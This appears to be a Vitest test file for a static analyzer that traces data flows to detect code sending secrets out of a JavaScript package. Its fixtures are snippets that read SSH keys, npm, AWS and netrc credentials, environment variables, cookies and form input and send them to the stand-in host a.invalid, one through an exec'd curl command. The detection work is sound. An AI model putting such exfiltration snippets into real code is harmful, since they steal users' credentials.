/** What goes out with a request, followed back to where it comes from; and what only looks like it. */
import { describe, expect, it } from 'vitest';
import { analyzeFile } from '../../src/behavior/analyze-file.ts';

function sent(text: string): string[] {
  return analyzeFile(text, /^import /.test(text) ? 'index.mjs' : 'index.js')
    .fns.flatMap(({ behaviors }) => behaviors)
    .filter(({ kind }) => kind === 'disclosure')
    .map(({ detail, carries = [] }) => `${carries.map(({ sort, name }) => `${sort} ${name}`).join(', ')} → ${detail}`);
}

const fs = `const fs = require('fs');\nconst home = require('os').homedir();\n`;

describe('what is sent', () => {
  it.each([
    [
      'through a variable and a function',
      `${fs}const read = () => fs.readFileSync(home + '/.npmrc', 'utf8');\nconst text = read();\nfetch('https://a.invalid/', { body: text });`,
      ['credential <home>/.npmrc → https://a.invalid/'],
    ],
    [
      'by what a list is mapped to',
      `${fs}const all = (names) => names.map((name) => [name, fs.readFileSync(name, 'utf8')]);\nfetch('https://a.invalid/', { body: JSON.stringify(all([home + '/.npmrc'])) });`,
      ['identity os.homedir → https://a.invalid/', 'credential <home>/.npmrc → https://a.invalid/'],
    ],
    [
      'out of what somebody fills in',
      `exports.open = () => { const values = {};\nArray.prototype.forEach.call(document.querySelectorAll('input'), (field) => { values[field.name] = field.value; });\nfetch('https://a.invalid/', { body: JSON.stringify(values) }); };`,
      ['input document.querySelectorAll → https://a.invalid/'],
    ],
    [
      'found in a file by a pattern',
      `${fs}const [, found] = /_authToken=(.+)/.exec(fs.readFileSync(home + '/.npmrc', 'utf8'));\nfetch('https://a.invalid/', { body: found });`,
      ['credential <home>/.npmrc → https://a.invalid/'],
    ],
    [
      'by a connection that an object keeps',
      `const tls = require('tls');\nclass Link { constructor() { this.link = tls.connect({ host: 'a.invalid', port: 443 }); } put(secretKey) { this.link.write(secretKey); } }\nexports.Link = Link;`,
      ['key secretKey → a.invalid'],
    ],
    [
      'by a request that is opened first',
      `const request = new XMLHttpRequest();\nrequest.open('POST', 'https://a.invalid/c');\nrequest.send(document.cookie);`,
      ['credential document.cookie → https://a.invalid/c'],
    ],
    [
      'out of what another page says to this one',
      `addEventListener('message', (event) => fetch('https://a.invalid/', { body: JSON.stringify(event.data) }));`,
      ['input message event → https://a.invalid/'],
    ],
    [
      'through a callback',
      `${fs}fs.readFile(home + '/.ssh/id_rsa', (error, text) => { fetch('https://a.invalid/', { body: text }); });`,
      ['credential <home>/.ssh/id_rsa → https://a.invalid/'],
    ],
    [
      'through a promise',
      `${fs}fs.promises.readFile(home + '/.netrc').then((text) => fetch('https://a.invalid/' + text));`,
      ['credential <home>/.netrc → https://a.invalid/…'],
    ],
    [
      'in pieces that are put into a list, by a request made before',
      `const parts = [];\nfor (const key in process.env) parts.push(key + process.env[key]);\nconst request = require('https').request({ host: 'a.invalid' });\nrequest.on('error', () => {});\nrequest.end(parts.join());`,
      ['credential process.env → a.invalid'],
    ],
    [
      'by destructuring',
      `const { NPM_TOKEN: found } = process.env;\nnavigator.sendBeacon('https://a.invalid/', found);`,
      ['credential NPM_TOKEN → https://a.invalid/'],
    ],
    [
      'of the whole environment, by the name it is imported under',
      `import { env as own } from 'node:process';\nfetch('https://a.invalid/', { body: Object.entries(own).join() });`,
      ['credential process.env → https://a.invalid/'],
    ],
    [
      'of the whole environment, taken out of what is imported when it is needed',
      `(async () => { const { env } = await import('node:process');\nfetch('https://a.invalid/', { body: JSON.stringify(env) }); })();`,
      ['credential process.env → https://a.invalid/'],
    ],
    [
      'in the text of a command',
      `require('child_process').exec('curl -d @$HOME/.aws/credentials https://a.invalid/');`,
      ['credential $HOME/.aws/credentials → https://a.invalid/'],
    ],
    [
      'as what tells a machine from others',
      `const os = require('os');\nfetch('https://a.invalid/?' + os.hostname());`,
      ['identity os.hostname → https://a.invalid/?…'],
    ],
    [
      'as a parameter that is called so, encoded',
      `exports.f = (privateKey) => fetch('https://a.invalid/', { headers: { x: btoa(privateKey) } });`,
      ['key privateKey → https://a.invalid/'],
    ],
  ])('is found %s', (_, text, expected) => {
    expect(sent(text)).toEqual(expected);
  });

  it.each([
    ['one harmless variable', `fetch('https://a.invalid/?' + process.env.NODE_ENV);`],
    [
      'a signature made with a key',
      `const { createHmac } = require('crypto');\nconst secretKey = load();\nfetch('https://a.invalid/', { body: createHmac('sha256', secretKey).update('x').digest('hex') });`,
    ],
    ['a constant that is called so', `const token = 'public';\nfetch('https://a.invalid/' + token);`],
    ['a file of no interest', `${fs}fetch('https://a.invalid/', { body: fs.readFileSync('README.md') });`],
    ['a program that gets the environment', `require('child_process').spawn('make', { env: process.env });`],
  ])('is not %s', (_, text) => {
    expect(sent(text)).toEqual([]);
  });

  it('is looked for within bounds, and a file that goes beyond them is not called read', () => {
    const links = Array.from({ length: 1_500 }, (_, at) => `const v${at + 1} = [v${at}, f(v${at}), v${at}];`);
    const sends = Array.from(
      { length: 5_000 },
      (_, at) => `fetch('https://a.invalid/', { body: v${1_450 + (at % 50)} });`,
    );
    const { unread } = analyzeFile(['const v0 = {};', ...links, ...sends].join('\n'), 'index.js');
    expect(unread?.why).toBe('too-long');
  });
});
